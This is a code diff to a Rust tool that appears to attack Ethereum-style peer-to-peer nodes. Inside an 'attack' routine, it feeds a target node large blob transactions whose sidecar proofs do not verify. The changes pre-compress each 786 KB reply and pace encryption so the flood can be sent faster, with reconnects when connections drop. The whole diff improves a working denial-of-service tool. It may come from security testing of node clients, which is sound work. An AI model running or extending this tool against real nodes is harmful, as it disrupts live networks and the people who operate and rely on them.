@@ -66,7 +66,8 @@ use moat_crypto::secp::Signer;
 use moat_p2p::Enode;
 use moat_p2p::client::Client;
 use moat_p2p::eth::{Announcement, EthMessage, Status};
-use moat_p2p::session::Incoming;
+use moat_p2p::p2p::CompressedTail;
+use moat_p2p::session::{Framing, Incoming};
 use parking_lot::Mutex;
 use std::collections::{HashMap, HashSet};
 use std::net::{Ipv4Addr, SocketAddr};
@@ -457,6 +458,9 @@ async fn connect_from(
 /// sender, each with a well-formed sidecar whose proofs do not verify.
 struct BlobSet {
     envs: Vec<Bytes>,
+    /// Per tx, the `PooledTransactions` reply's list of that one tx, compressed once:
+    /// every delivery of it is framed without compressing 786 KB again.
+    replies: Vec<CompressedTail>,
     hashes: Vec<B256>,
     sizes: Vec<u32>,
     index: HashMap<B256, usize>,
@@ -487,6 +491,7 @@ fn blob_sets(
         let (signer, nonce) = &keys[a % keys.len()];
         let mut set = BlobSet {
             envs: Vec::new(),
+            replies: Vec::new(),
             hashes: Vec::new(),
             sizes: Vec::new(),
             index: HashMap::new(),
@@ -511,6 +516,10 @@ fn blob_sets(
             set.index.insert(pooled.hash(), set.envs.len());
             set.hashes.push(pooled.hash());
             set.sizes.push(env.len() as u32);
+            set.replies
+                .push(Framing::pooled_transactions_tail(std::slice::from_ref(
+                    &env,
+                )));
             set.envs.push(env);
         }
         sets.push(set);
@@ -1323,8 +1332,19 @@ async fn blob_round(c: &mut Client, set: &BlobSet, i: usize, stats: &BlobStats) 
                         }
                     }
                 }
-                let reply = EthMessage::PooledTransactions { request_id, txs };
-                if c.send(&reply).await.is_err() {
+                // The usual ask (one hash, the one announced) gets its reply framed
+                // from the compressed tail; anything else is encoded afresh.
+                let sent = match hashes.as_slice() {
+                    [h] if let Some(&k) = set.index.get(h) => {
+                        let frame = c.framing().pooled_transactions(request_id, &set.replies[k]);
+                        c.send_framed(&frame).await
+                    }
+                    _ => {
+                        c.send(&EthMessage::PooledTransactions { request_id, txs })
+                            .await
+                    }
+                };
+                if sent.is_err() {
                     return false;
                 }
             }
@@ -1398,7 +1418,12 @@ async fn attack(ctx: AttackCtx) {
                     _ => local,
                 };
                 match connect_from(&target, seed, &status, local).await {
-                    Some(c) => client.insert(c),
+                    Some(mut c) => {
+                        // A large frame is encrypted and MACed in 64 KB steps, with the
+                        // core given away between them.
+                        c.set_pause(yield_core);
+                        client.insert(c)
+                    }
                     None => {
                         reconnects.fetch_add(1, Ordering::Relaxed);
                         tokio::time::sleep(Duration::from_millis(100)).await;
